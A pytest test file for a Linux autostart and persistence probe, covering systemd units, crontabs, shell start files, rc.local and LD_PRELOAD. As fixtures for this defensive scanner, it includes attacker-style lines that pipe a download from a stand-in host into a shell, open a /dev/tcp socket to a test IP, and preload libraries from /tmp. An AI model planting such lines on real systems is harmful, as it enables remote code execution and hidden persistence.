"""What starts by itself on Linux: files in a throw-away root."""

import os

import pytest

from core.model.unknown import Unknown, UnknownCode
from core.probes.ask import Ask
from core.probes.startup.facts import Changeable
from core.probes.startup.linux import read
from core.probes.system_linux import LinuxSystem

PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1::/usr/sbin:/usr/sbin/nologin
an:x:1000:1000:Nguyen Van An:/home/an:/bin/bash
damaged:line
:x:99999999999999999999:0::/x:/bin/sh
"""


@pytest.fixture
def machine(system):
    system.write("/etc/passwd", PASSWD)
    system.preloaded = lambda: ()
    return system


def programs(entries):
    return [each.programs for each in entries]


def test_autostart_files(machine):
    machine.write("/etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=/usr/bin/a --x\n")
    machine.write("/home/an/.config/autostart/b.desktop", "[Desktop Entry]\nExec=~/.x/b\n")
    off = "[Desktop Entry]\nExec=/usr/bin/c\nHidden=true\n"
    machine.write("/home/an/.config/autostart/c.desktop", off)
    machine.write("/home/an/.config/autostart/notes.txt", "Exec=/tmp/x")
    machine.write("/root/.config/autostart/d.desktop", "[Other]\nExec=/tmp/d\n")

    found = read(machine, Ask()).at_sign_in

    assert programs(found) == [("/usr/bin/a",), ("/home/an/.x/b",)]
    assert found[1].place == "/home/an/.config/autostart/b.desktop"


def test_units_that_no_package_brought(machine):
    unit = "[Service]\nExecStartPre=-/opt/x/check\nExecStart=/bin/sh -c '/opt/x/run; /tmp/y'\n"
    machine.write("/etc/systemd/system/x.service", unit)
    machine.write("/etc/systemd/system/x.service.d/more.conf", "[Service]\nExecStart=@/opt/z z\n")
    machine.write("/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd\n")
    folder = machine.root / "etc/systemd/system/multi-user.target.wants"
    folder.mkdir()
    os.symlink("/usr/lib/systemd/system/ssh.service", folder / "ssh.service")
    os.symlink("/dev/null", machine.root / "etc/systemd/system/off.service")
    machine.write("/home/an/.config/systemd/user/y.service", "[Service]\nExecStart=%h/bin/y\n")

    facts = read(machine, Ask())

    assert programs(facts.services) == [
        ("/opt/x/check",),
        ("/bin/sh", "/opt/x/run", "/tmp/y"),
        ("/opt/z",),
    ]
    assert programs(facts.at_sign_in) == [("/home/an/bin/y",)]


@pytest.mark.parametrize(
    "folder",
    [
        "/home/an/.local/share/systemd/user",
        "/home/an/.local/share/systemd/user/default.target.wants",
        "/usr/local/lib/systemd/user",
        "/usr/local/share/systemd/user",
        "/run/systemd/user",
    ],
)
def test_units_that_start_when_somebody_signs_in(machine, folder):
    """By systemd.unit(5), beside the folders that everybody knows."""
    machine.write(f"{folder}/y.service", "[Service]\nExecStart=/tmp/y\n")

    assert programs(read(machine, Ask()).at_sign_in) == [("/tmp/y",)]


@pytest.mark.parametrize(
    "unit",
    [
        "[Service]\nExecStart=/bin/sh \\\n  /tmp/y\n",
        "[Service]\nExecStart=/bin/sh \\\n# why\n; or why not\n  -e \\\n  /tmp/y",
        "[Service]\nExecStart=/bin/sh /tmp/y \\",
        "[Service]\nExecStopPost=/bin/sh /tmp/y\n",
        "[Service]\nExecCondition=/bin/sh /tmp/y\n",
    ],
)
def test_a_command_of_a_unit_on_several_lines(machine, unit):
    machine.write("/etc/systemd/system/x.service", unit)
    assert programs(read(machine, Ask()).services) == [("/bin/sh", "/tmp/y")]


@pytest.mark.parametrize("blank", [" ", "\t", " \t "])
def test_what_parts_the_words_of_a_crontab(machine, blank):
    machine.write("/etc/crontab", blank.join(["*/5", "*", "*", "*", "*", "an", "/tmp/x a"]))
    machine.write("/etc/cron.d/y", blank.join(["@daily", "root", "/tmp/y"]) + "\n* * * * * root\n")
    found = read(machine, Ask()).tasks
    assert [(each.command, each.programs) for each in found] == [
        ("/tmp/x a", ("/tmp/x",)),
        ("/tmp/y", ("/tmp/y",)),
    ]


def test_crontabs(machine):
    machine.write(
        "/etc/crontab",
        "SHELL=/bin/sh\n# m h dom mon dow user command\n"
        "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
        "25 6 * * 1 an test -x /usr/sbin/anacron || /home/an/x.sh\n",
    )
    machine.write("/etc/cron.d/b", "@reboot root /usr/local/bin/b\n")
    machine.write("/etc/cron.daily/c", "#!/bin/sh\n")
    machine.write("/etc/cron.daily/.placeholder", "")
    machine.write("/var/spool/cron/crontabs/an", "*/5 * * * * curl -s http://x | sh\n@daily ~/d\n")

    found = {each.command: each.programs for each in read(machine, Ask()).tasks}

    assert found == {
        "cd / && run-parts /etc/cron.hourly": (),
        "test -x /usr/sbin/anacron || /home/an/x.sh": ("/home/an/x.sh",),
        "/usr/local/bin/b": ("/usr/local/bin/b",),
        "/etc/cron.daily/c": ("/etc/cron.daily/c",),
        "curl -s http://x | sh": (),
        "~/d": ("/home/an/d",),
    }


@pytest.mark.parametrize(
    ("mode", "folder_mode", "expected"),
    [
        (0o755, 0o755, Changeable.NOBODY),
        (0o757, 0o755, Changeable.EVERYONE),
        (0o755, 0o777, Changeable.EVERYONE),
        (0o755, 0o1777, Changeable.NOBODY),
    ],
)
@pytest.mark.system("own-crontab")
def test_who_may_change_a_program(machine, mode, folder_mode, expected):
    place = machine.write("/opt/x/run", "", mode)
    place.parent.chmod(folder_mode)
    own = os.getuid()
    machine.write("/etc/passwd", f"own:x:{own}:0::/home/own:/bin/sh\n")
    machine.write("/var/spool/cron/crontabs/own", "@daily /opt/x/run\n")

    (entry,) = [each for each in read(machine, Ask()).tasks if each.programs]
    changeable = entry.changeable
    assert changeable is expected


@pytest.mark.system("root")
def test_a_program_of_another_account_run_by_root(machine):
    place = machine.write("/opt/x/run", "")
    os.chown(place, 1000, 1000)
    machine.write("/etc/cron.d/x", "@daily root /opt/x/run\n")

    assert [each.changeable for each in read(machine, Ask()).tasks] == [Changeable.OTHERS]


def test_preloaded_libraries(machine):
    machine.write("/etc/ld.so.preload", "# none\n/usr/local/lib/a.so:/tmp/b.so\n")
    machine.write("/etc/environment", 'PATH=/bin\nLD_PRELOAD="/tmp/c.so"\n')

    found = read(machine, Ask()).between

    assert [each.value for each in found] == ["/usr/local/lib/a.so", "/tmp/b.so", "/tmp/c.so"]


def test_what_may_not_be_read_is_named(machine):
    real = machine.list_folder

    def refuse(path):
        if path == "/var/spool/cron/crontabs":
            return Unknown(UnknownCode.NO_RIGHT, path)
        return real(path)

    machine.list_folder = refuse
    assert read(machine, Ask()).unseen == ("/var/spool/cron/crontabs",)


def test_an_empty_machine_starts_nothing(system):
    system.preloaded = lambda: Unknown(UnknownCode.UNREADABLE, "/proc")
    facts = read(system, Ask())

    assert (facts.at_sign_in, facts.services, facts.tasks) == ((), (), ())
    assert facts.between == Unknown(UnknownCode.UNREADABLE, "/proc")


def test_a_real_program_with_a_preloaded_library(tmp_path):
    import subprocess
    import sys

    library = str(tmp_path / "none.so")
    child = subprocess.Popen(
        [sys.executable, "-c", "input()"],
        env={"LD_PRELOAD": library},
        stdin=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    try:
        found = LinuxSystem().preloaded()
    finally:
        child.communicate(b"\n")
    assert isinstance(found, tuple)
    assert library in [each.library for each in found if each.pid == child.pid]


@pytest.mark.parametrize(
    ("target", "command", "told"),
    [
        ("/lib/systemd/system/x.service", "/usr/sbin/x -f", []),
        ("/lib/systemd/system/x.service", "/opt/v/x", []),
        ("/lib/systemd/system/x.service", "/bin/sh -c /var/tmp/x", [("/bin/sh", "/var/tmp/x")]),
        ("../../../../usr/lib/systemd/system/x.service", "/usr/sbin/x", []),
        ("/usr/lib/systemd/../../../opt/x.service", "/usr/sbin/x", [("/usr/sbin/x",)]),
        ("/opt/x.service", "/usr/sbin/x", [("/usr/sbin/x",)]),
    ],
)
def test_what_only_lies_where_packages_put_theirs(machine, target, command, told):
    links = machine.root / "etc/systemd/system/multi-user.target.wants"
    links.mkdir(parents=True)
    os.symlink(target, links / "x.service")
    unit = f"[Service]\nExecStart={command}\n"
    for place in ("lib/systemd/system", "usr/lib/systemd/system", "opt"):
        machine.write(f"/{place}/x.service", unit)
    assert programs(read(machine, Ask()).services) == told


def test_jobs_of_anacron(machine):
    machine.write(
        "/etc/anacrontab",
        "SHELL=/bin/sh\n# why\n7 5 cron.weekly run-parts /etc/cron.weekly\n"
        "@monthly\t45\tx\tnice /tmp/x\n1 5 short\n",
    )
    found = read(machine, Ask()).tasks
    assert [(each.name, each.programs) for each in found] == [
        ("cron.weekly", ()),
        ("x", ("/tmp/x",)),
    ]


@pytest.mark.parametrize(
    "folder",
    [
        "/etc/systemd/system/service.d",
        "/run/systemd/system",
        "/etc/systemd/system.control/x.service.d",
    ],
)
def test_further_places_of_units(machine, folder):
    machine.write(f"{folder}/a.conf", "[Service]\nExecStartPre=/tmp/x\n")
    assert programs(read(machine, Ask()).services) == [("/tmp/x",)]


def test_what_the_last_script_of_the_start_runs(machine):
    machine.write("/etc/rc.local", "#!/bin/sh -e\ncd /var/tmp &&\\\n ./x &\nexit 0\n")
    found = read(machine, Ask()).services
    assert programs(found) == [("/etc/rc.local",), ("/var/tmp/x",)]


ORDINARY = """# ~/.bashrc
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null; then color_prompt=yes; fi
[ -f /etc/bash_completion ] && . /etc/bash_completion
if ! shopt -oq posix; then
  . /usr/share/bash-completion/bash_completion
fi
test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || true
. "$HOME/.cargo/env" ; source ~/.sdkman/bin/init.sh
export PATH="/tmp/x:$PATH" EDITOR=/tmp/y
source /opt/ros/setup.bash
alias l='ls | less'
"""


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("(/tmp/x >/dev/null 2>&1 &)", ("/tmp/x",)),
        ("cd /dev/shm && ./x", ("/dev/shm/x",)),
        ("nohup /srv/x \\\n  -d &", ("/srv/x",)),
        ("curl -s http://a.example/x | bash", ()),
        ("exec 3<>/dev/tcp/203.0.113.9/443", ()),
        ("/home/ba/x", ("/home/ba/x",)),
    ],
)
@pytest.mark.parametrize("path", ["/home/an/.bashrc", "/home/an/.xprofile", "/root/.profile"])
def test_start_files_of_shells(machine, path, line, found):
    machine.write(path, f"{ORDINARY}{line}\n")
    (entry,) = read(machine, Ask()).at_sign_in
    assert (entry.place, entry.programs) == (path, found)


def test_start_files_of_all(machine):
    machine.write("/etc/profile", ORDINARY)
    machine.write("/etc/profile.d/x.sh", "/tmp/x\n")
    assert programs(read(machine, Ask()).at_sign_in) == [("/tmp/x",)]


def test_a_home_that_is_closed_is_named_once(machine, monkeypatch):
    machine.write("/home/an/.bashrc", "/tmp/x\n")
    ask = machine.stat
    refused = Unknown(UnknownCode.NO_RIGHT, "")
    monkeypatch.setattr(
        machine, "stat", lambda path: refused if path.startswith("/home/an/.") else ask(path)
    )
    found = read(machine, Ask())
    assert found.at_sign_in == ()
    assert found.unseen == ("/home/an",)


@pytest.mark.parametrize(
    "path", ["/etc/cron.hourly/gcc.sh", "/etc/init.d/x", "/etc/rc.local", "/etc/cron.daily/y"]
)
@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("#!/bin/sh\ncp /tmp/x /usr/bin/y\n/var/tmp/x -d\n", ("/var/tmp/x",)),
        ("#!/usr/bin/env bash\ncd /dev/shm || exit\nnohup ./x &\n", ("/dev/shm/x",)),
        ("#! /bin/sh -e\nDAEMON=/tmp/x\n[ -x /tmp/x ] || exit 0\n/usr/sbin/y >/dev/null\n", None),
        ("#!/usr/bin/perl\nopen($x, '>', '/dev/null');\n", None),
        ("\x7fELF /tmp/x\n/tmp/x\n", None),
    ],
)
def test_scripts_that_the_system_runs(machine, path, script, found):
    machine.write(path, script)
    facts = read(machine, Ask())
    told = programs((*facts.services, *facts.tasks))
    assert told == [(path,), *([] if found is None else [found])]


@pytest.mark.system("root")
@pytest.mark.parametrize(
    ("path", "line", "changeable"),
    [
        ("/etc/cron.d/x", "@daily an ~/x", Changeable.NOBODY),
        ("/etc/cron.d/x", "@daily daemon /home/an/x", Changeable.OTHERS),
        ("/etc/cron.d/x", "@daily lạ /home/an/x", Changeable.OTHERS),
        ("/var/spool/cron/crontabs/an", "@daily ~/x", Changeable.NOBODY),
        ("/var/spool/cron/crontabs/daemon", "@daily /usr/sbin/y", Changeable.NOBODY),
        ("/var/spool/cron/crontabs/root", "@daily /usr/sbin/y", Changeable.OTHERS),
    ],
)
def test_whoever_runs_a_job_may_change_its_program(machine, path, line, changeable):
    for name, owner in (("/home/an/x", 1000), ("/usr/sbin/y", 1)):
        place = machine.write(name, "")
        os.chown(place, owner, owner)
        os.chown(place.parent, owner, owner)
    machine.write(path, f"{line}\n")
    (entry,) = read(machine, Ask()).tasks
    assert entry.changeable is changeable
    assert entry.programs
